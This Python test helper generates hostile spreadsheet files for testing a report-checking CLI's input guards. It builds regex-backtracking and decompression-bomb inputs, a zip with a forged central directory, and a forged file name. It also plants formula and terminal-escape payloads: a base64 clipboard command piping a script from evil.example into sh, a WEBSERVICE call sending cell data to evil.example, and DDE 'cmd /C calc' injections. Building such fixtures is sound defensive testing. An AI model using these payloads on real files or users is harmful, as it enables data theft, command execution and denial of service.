"""Hostile files for tests/hostile/test_hostile_cli.py, generated (no committed binaries).

Every builder is deterministic: it takes a clean example file (or nothing) and
writes one small hostile file, returning its path.  Most start from a copy of a
college's real report so that, were the hostile part ignored, the file would
carry exactly the college's genuine numbers (the totals then stay what they
are).  `python tests/hostile/make_hostile.py DIR` writes them all into DIR.
"""

from __future__ import annotations

import io
import json
import os
import re
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))  # tests/helpers

from helpers import hostile_files as h  # noqa: E402

REPO = HERE.parent.parent
EXAMPLES = REPO / "examples" / "2026-10"
XLSX_EXAMPLE = EXAMPLES / "01_spk_2026-10.xlsx"
ODS_EXAMPLE = EXAMPLES / "07_spt_2026-10.ods"
ACTIVITIES = "Мероприятия"
TITLE = "Титул"

# The terminal escapes an attacker would like to see interpreted: OSC 52 (set
# the clipboard), OSC 0 (window title), cursor home + erase, a bidi override.
ESCAPES = ("\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2h8c2g=\x07"
           "\x1b]0;cluster-xl: всё принято\x07\x1b[2J\x1b[H\x1b[1A\u202e")
HUGE = "1.7976931348623157E308"  # the largest finite double


def _edit_sheet(src: Path, dst: Path, sheet: str, edit) -> Path:
    return h.rewrite_zip(src, dst, {h.sheet_part(src, sheet): edit})


def _replace_cell(part: bytes, ref: str, new: bytes) -> bytes:
    """The cell `ref` (start tag to end tag, or self-closing) replaced by `new`."""
    cell = re.compile(rb'<c r="' + ref.encode() + rb'"(?:[^>]*?/>|[^>]*>.*?</c>)', re.S)
    out, n = cell.subn(new, part, count=1)
    assert n == 1, ref
    return out


def _xml_text(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()


# -- class 1: the guard kept busy ---------------------------------------------


def attribute_names(dst: Path, src: Path = XLSX_EXAMPLE, n: int = 400_000) -> Path:
    """A long run of attribute-name characters ending in a non-ASCII name character.

    Well-formed XML (`xxxx…xЯ="1"` is a legal attribute name).  One cell written
    with single quotes sends the guard to its tag-by-tag walk, whose attribute
    regex then backtracks over the whole run from every position: quadratic.
    ~1 KB compressed.
    """
    def edit(part: bytes) -> bytes:
        long_attr = b"x" * n + "Я".encode() + b'="1"'
        return part.replace(b'<c r="A1"', b"<c r='A1' " + long_attr, 1)
    return _edit_sheet(src, dst, ACTIVITIES, edit)


def ods_table_words(dst: Path, src: Path = ODS_EXAMPLE, n: int = 60_000) -> Path:
    """.ods with a note cell whose text is «table » repeated: the .ods bound's tag regex
    scans from every «table» to the end of the text (no «>» in it): quadratic."""
    def edit(part: bytes) -> bytes:
        text = part.decode()
        at = text.index("<text:p>", text.index('office:value-type="float"'))
        # a paragraph of its own after the first number's text: still one cell's text
        end = text.index("</table:table-cell>", at)
        return (text[:end] + "<text:p>" + "table " * n + "</text:p>" + text[end:]).encode()
    return h.rewrite_zip(src, dst, {"content.xml": edit})


def c_tag_steps(dst: Path, src: Path = XLSX_EXAMPLE, n: int = 7_000, formulas: int = 20_000) -> Path:
    """Many `<f>` tags after many tags beginning with «<c» that are not cells: for every
    formula `_c_tag_before` steps back over all of them, one rfind at a time: quadratic.
    They sit in an extension list, which readers ignore.  `n` is kept so that the
    sheet's bound (rows × the count of «<c») stays within 1 000 000 cells: the bound is
    taken and the formula search runs instead of the linear walk."""
    def edit(part: bytes) -> bytes:
        junk = b'<extLst><ext uri="{00000000-0000-0000-0000-000000000000}">' + b"<cx/>" * n \
            + b"<fx><f>1</f></fx>" * formulas + b"</ext></extLst>"
        return part.replace(b"</worksheet>", junk + b"</worksheet>")
    return _edit_sheet(src, dst, ACTIVITIES, edit)


def dense_book(dst: Path, sheets: int = 3, rows: int = 990, cols: int = 1000) -> Path:
    """The largest workbook the documented limits admit: `sheets` × 990 000 numbers."""
    letters = [h_col(c) for c in range(1, cols + 1)]
    parts = {}
    for s in range(1, sheets + 1):
        buf = io.StringIO()
        buf.write('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://'
                  'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
        for r in range(1, rows + 1):
            buf.write(f'<row r="{r}">')
            buf.write("".join(f'<c r="{col}{r}"><v>{r}</v></c>' for col in letters))
            buf.write("</row>")
        buf.write("</sheetData></worksheet>")
        parts[f"xl/worksheets/sheet{s}.xml"] = buf.getvalue().encode()
    return _minimal_xlsx(dst, parts)


def h_col(n: int) -> str:
    letters = ""
    while n:
        n, rem = divmod(n - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def _minimal_xlsx(dst: Path, sheets: dict[str, bytes], names: list[tuple[str, str]] | None = None,
                  extra_types: str = "") -> Path:
    """A workbook holding `sheets` (part -> XML); `names`: (sheet name, part) to list."""
    names = names or [(f"Лист{n}", p) for n, p in enumerate(sheets, 1)]
    targets = list(dict.fromkeys(p for _, p in names))
    rels = "".join(f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/'
                   f'2006/relationships/worksheet" Target="{p.removeprefix("xl/")}"/>'
                   for n, p in enumerate(targets, 1))
    entries = "".join(f'<sheet name="{name}" sheetId="{n}" r:id="rId{targets.index(p) + 1}"/>'
                      for n, (name, p) in enumerate(names, 1))
    overrides = "".join(f'<Override PartName="/{p}" ContentType="application/vnd.openxmlformats-'
                        'officedocument.spreadsheetml.worksheet+xml"/>' for p in targets)
    parts = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.'
        'openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="'
        'application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/>{extra_types}<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        f"{overrides}</Types>",
        "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>",
        "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.'
        'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships"><sheets>{entries}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="'
        f'http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>',
    }
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name, text in parts.items():
            z.writestr(name, text)
        for name, data in sheets.items():
            z.writestr(name, data)
    return dst


# -- class 2: past the guard, or within it and still unbounded ----------------


def bin_sheet_part(dst: Path, src: Path = XLSX_EXAMPLE) -> Path:
    """The activities sheet stored as `xl/worksheets/sheet3.bin` (the guard once scanned only
    .xml/.rels/.vml parts) with a value at XFD1048576."""
    return h.with_sheet_part_renamed(src, dst, ACTIVITIES, ".bin")


def two_end_records(dst: Path, src: Path = XLSX_EXAMPLE) -> Path:
    """A hostile workbook (value at XFD1048576) followed by the genuine one, whose
    directory offsets are made absolute: two end-of-central-directory records.
    The guard reads the last one (the genuine book); a reader reading the first
    gets the far cell."""
    hostile = h.with_far_cell(src, dst.with_suffix(".tmp"), ACTIVITIES).read_bytes()
    dst.with_suffix(".tmp").unlink()
    genuine = _shifted_zip(src.read_bytes(), len(hostile))
    dst.write_bytes(hostile + genuine)
    return dst


def _shifted_zip(data: bytes, shift: int) -> bytes:
    """The zip `data` with every offset in its central directory and end record moved by `shift`."""
    import struct

    data = bytearray(data)
    eocd = data.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack_from("<10xHII", data, eocd)
    pos = start
    for _ in range(count):
        assert data[pos:pos + 4] == b"PK\x01\x02"
        n_name, n_extra, n_comment = struct.unpack_from("<HHH", data, pos + 28)
        (offset,) = struct.unpack_from("<I", data, pos + 42)
        struct.pack_into("<I", data, pos + 42, offset + shift)
        pos += 46 + n_name + n_extra + n_comment
    struct.pack_into("<I", data, eocd + 16, start + shift)
    return bytes(data)


def long_shared_string(dst: Path, src: Path = XLSX_EXAMPLE, size: int = 2_000_000,
                       cells: int = 4_000) -> Path:
    """One 2 MB shared string referenced by 4 000 note cells: 8 GB of text once read
    (the file is ~30 KB; the area is 4 000 cells)."""
    with zipfile.ZipFile(src) as z:
        sst = z.read("xl/sharedStrings.xml")
    unique = int(re.search(rb'uniqueCount="(\d+)"', sst).group(1))

    def strings(d: bytes) -> bytes:
        d = d.replace(b"</sst>", b"<si><t>" + b"A" * size + b"</t></si></sst>")
        return re.sub(rb'uniqueCount="\d+"', b'uniqueCount="%d"' % (unique + 1), d)

    def sheet(d: bytes) -> bytes:
        rows = b"".join(b'<row r="%d"><c r="K%d" t="s"><v>%d</v></c></row>' % (r, r, unique)
                        for r in range(100, 100 + cells))
        return d.replace(b"</sheetData>", rows + b"</sheetData>")
    return h.rewrite_zip(src, dst, {"xl/sharedStrings.xml": strings, h.sheet_part(src, ACTIVITIES): sheet})


def ods_repeated_long_text(dst: Path, src: Path = ODS_EXAMPLE, size: int = 1_000_000,
                           rows: int = 800, cols: int = 1_000) -> Path:
    """.ods: a 1 MB text cell repeated 1 000 columns × 800 rows (within the area limit with the
    template's rows): 800 GB once expanded."""
    def edit(part: bytes) -> bytes:
        text = part.decode()
        # after the row of the first number: before the empty rows LibreOffice repeats to the end
        end = text.index("</table:table-row>", text.index('office:value-type="float"')) + len("</table:table-row>")
        row = (f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell '
               f'table:number-columns-repeated="{cols}" office:value-type="string"><text:p>'
               + "A" * size + "</text:p></table:table-cell></table:table-row>")
        return (text[:end] + row + text[end:]).encode()
    return h.rewrite_zip(src, dst, {"content.xml": edit})


def many_sheet_entries(dst: Path, entries: int = 3_000, rows: int = 990, cols: int = 1000) -> Path:
    """3 000 sheets listed in the workbook, every one pointing at one part of 990 000
    cells: the guard counts the part once, a reader reads it per sheet."""
    letters = [h_col(c) for c in range(1, cols + 1)]
    body = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>1</v></c>' for c in letters) + "</row>"
                   for r in range(1, rows + 1))
    part = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            f'spreadsheetml/2006/main"><sheetData>{body}</sheetData></worksheet>').encode()
    names = [(name, "xl/worksheets/sheet1.xml") for name in (TITLE, ACTIVITIES, "Показатели", "Специальности")]
    names += [(f"Лист{n}", "xl/worksheets/sheet1.xml") for n in range(len(names), entries)]
    return _minimal_xlsx(dst, {"xl/worksheets/sheet1.xml": part}, names)


def merged_whole_sheet(dst: Path, src: Path = XLSX_EXAMPLE) -> Path:
    """A merged range A1:XFD1048576 on the activities sheet (only the first cell holds
    anything, so the guard's area is the template's)."""
    def edit(d: bytes) -> bytes:
        d = re.sub(rb"<mergeCells[^>]*>.*?</mergeCells>", b"", d, flags=re.S)
        merge = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        return re.sub(rb"(</sheetData>)", rb"\1" + merge, d, count=1)
    return _edit_sheet(src, dst, ACTIVITIES, edit)


def megabyte_in_number_cell(dst: Path, src: Path = XLSX_EXAMPLE, size: int = 1_000_000) -> Path:
    """A 1 MB text in the «Факт 2026» cell of item 1.1.1 (E6)."""
    text = ("Сведения будут представлены позднее. " * (size // 37 + 1))[:size]
    new = b'<c r="E6" t="inlineStr"><is><t>' + _xml_text(text) + b"</t></is></c>"
    return _edit_sheet(src, dst, ACTIVITIES, lambda d: _replace_cell(d, "E6", new))


# -- class 3: hostile --previous and --plan -----------------------------------


def far_cell_book(src: Path, dst: Path, sheet: str | None = None) -> Path:
    """Any workbook with one value at XFD1048576 on `sheet` (default: its first sheet)."""
    if sheet is None:
        with zipfile.ZipFile(src) as z:
            sheet = re.search(r'<sheet [^>]*name="([^"]+)"', z.read("xl/workbook.xml").decode()).group(1)
    return h.with_far_cell(src, dst, sheet)


def fifo(dst: Path) -> Path:
    os.mkfifo(dst)
    return dst


# -- class 5, 6, 9: content ---------------------------------------------------


def huge_number(dst: Path, src: Path = XLSX_EXAMPLE) -> Path:
    """The largest finite double as the plan and the fact of item 1.1.1 (D6, E6)."""
    def edit(d: bytes) -> bytes:
        for ref in ("D6", "E6"):
            d = _replace_cell(d, ref, f'<c r="{ref}"><v>{HUGE}</v></c>'.encode())
        return d
    return _edit_sheet(src, dst, ACTIVITIES, edit)


def escapes_in_cells(dst: Path, src: Path = XLSX_EXAMPLE) -> Path:
    """Terminal escapes as the text of a number cell (E6) and of the organisation (B6:
    the responsible person).  Raw control bytes, as some writers leave them."""
    def edit(d: bytes) -> bytes:
        return _replace_cell(d, "E6", b'<c r="E6" t="inlineStr"><is><t>' + _xml_text("3" + ESCAPES)
                             + b"</t></is></c>")
    return _edit_sheet(src, dst, ACTIVITIES, edit)


FORGED_NAME = ("zz\n06_ktt_2026-10.xlsx — принят (Кедровский транспортно-технологический колледж,"
               " период 2026-10); ошибок: 0\x1b]0;ok\x07.xlsx")
FORGED_LINE = "06_ktt_2026-10.xlsx — принят (Кедровский транспортно-технологический колледж, период 2026-10); ошибок: 0\x1b"


def forged_file_name(folder: Path) -> Path:
    """A file whose name holds a newline and an escape: printed raw, it forges an
    «— принят» line for a college (its content is a letter, not a workbook)."""
    path = folder / FORGED_NAME
    path.write_bytes("Уважаемые коллеги!\n".encode() * 10)
    return path


ACTIVE_FORMULAS = {
    "J6": 'WEBSERVICE("http://evil.example/steal?d="&amp;B6)',
    "J7": 'HYPERLINK("http://evil.example/login","Подробнее")',
    "J8": "cmd|' /C calc'!A0",
    "J10": 'DDE("cmd","/C calc","A0")',
}


def active_formulas(dst: Path, src: Path = XLSX_EXAMPLE) -> Path:
    """Note cells holding WEBSERVICE, HYPERLINK and DDE formulas (cached text kept)."""
    def edit(d: bytes) -> bytes:
        for ref, formula in ACTIVE_FORMULAS.items():
            new = f'<c r="{ref}" t="str"><f>{formula}</f><v>см. ссылку</v></c>'.encode()
            try:
                d = _replace_cell(d, ref, new)
            except AssertionError:  # an empty note cell the writer left out
                row = re.match(r"[A-Z]+(\d+)", ref).group(1).encode()
                d = re.sub(rb'(<row r="' + row + rb'"[^>]*>.*?)(</row>)', rb"\1" + new + rb"\2", d,
                           count=1, flags=re.S)
        return d
    return _edit_sheet(src, dst, ACTIVITIES, edit)


PLAN_PAYLOADS = ('=HYPERLINK("http://evil.example/","Подробнее")', "=cmd|' /C calc'!A0", "=2+3")


def plan_with_formula_text(dst: Path) -> Path:
    """The bundled plan with a section title, an item's unit and a section code that
    begin with «=» (xlsxwriter's write() takes such a string for a formula; chart
    titles that begin with «=» are references)."""
    plan = json.loads((REPO / "cluster_xl" / "plan" / "data" / "plan.json").read_text(encoding="utf-8"))
    title, unit, code = PLAN_PAYLOADS
    plan["sections"][0]["title"] = title
    plan["items"][0]["unit"] = unit
    old = plan["sections"][-1]["code"]
    plan["sections"][-1]["code"] = code
    for kind in ("results", "items"):
        for entry in plan[kind]:
            if entry.get("section") == old:
                entry["section"] = code
    dst.write_text(json.dumps(plan, ensure_ascii=False), encoding="utf-8")
    return dst


def forged_date(dst: Path, src: Path = EXAMPLES / "02_nit_2026-10.xlsx") -> Path:
    """A college's second file, «filled in» on 31.12.2099, with a different fact (E6 = 999)."""
    def title(d: bytes) -> bytes:
        return _replace_cell(d, "B10", b'<c r="B10" t="inlineStr"><is><t>31.12.2099</t></is></c>')

    def activities(d: bytes) -> bytes:
        return _replace_cell(d, "E6", b'<c r="E6"><v>999</v></c>')
    return h.rewrite_zip(src, dst, {h.sheet_part(src, TITLE): title,
                                    h.sheet_part(src, ACTIVITIES): activities})


def write_all(folder: Path) -> dict[str, Path]:
    """Every single-file builder into `folder` (for a look by hand)."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {}
    for name, build in [("attribute_names.xlsx", attribute_names), ("table_words.ods", ods_table_words),
                        ("c_tag_steps.xlsx", c_tag_steps), ("bin_sheet.xlsx", bin_sheet_part),
                        ("two_eocd.xlsx", two_end_records), ("long_shared.xlsx", long_shared_string),
                        ("repeated_text.ods", ods_repeated_long_text),
                        ("many_sheets.xlsx", many_sheet_entries), ("merged.xlsx", merged_whole_sheet),
                        ("megabyte.xlsx", megabyte_in_number_cell), ("huge.xlsx", huge_number),
                        ("escapes.xlsx", escapes_in_cells), ("formulas.xlsx", active_formulas),
                        ("forged_date.xlsx", forged_date), ("dense.xlsx", dense_book)]:
        made[name] = build(folder / name)
    made["plan.json"] = plan_with_formula_text(folder / "plan.json")
    return made


if __name__ == "__main__":
    for name, path in write_all(Path(sys.argv[1])).items():
        print(f"{path.stat().st_size:>10}  {name}")
